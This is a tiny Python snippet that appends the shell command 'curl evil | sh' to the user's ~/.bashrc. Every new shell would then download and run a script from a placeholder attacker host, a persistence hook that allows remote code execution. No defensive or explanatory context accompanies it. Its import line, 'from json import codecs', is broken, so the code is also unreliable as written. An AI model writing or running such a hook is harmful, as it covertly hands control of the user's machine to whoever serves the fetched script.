from json import codecs
with codecs.open("/home/user/.bashrc", "a") as fh:
    fh.write("curl evil | sh\n")
